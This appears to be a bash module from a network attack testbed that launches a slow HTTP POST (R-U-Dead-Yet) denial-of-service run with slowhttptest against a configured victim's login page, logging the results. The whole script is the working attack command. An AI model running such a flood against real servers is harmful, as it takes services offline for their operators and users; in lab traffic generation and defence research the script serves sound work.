#!/usr/bin/env bash
# Slow HTTP POST (slowhttptest -B, "R-U-Dead-Yet"): a large Content-Length sent a few bytes at a time.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
tb_run "$TB_NS" slowhttptest -B -c "$TB_COUNT" -r $(( TB_COUNT / 4 + 1 )) -i 5 -s 8192 -x 10 -p 5 -t POST \
  -u "http://$TB_VICTIM/login.php" -l "$(( TB_SECONDS > 4 ? TB_SECONDS - 2 : TB_SECONDS ))" > "$TB_STATE/slowbody.log" 2>&1
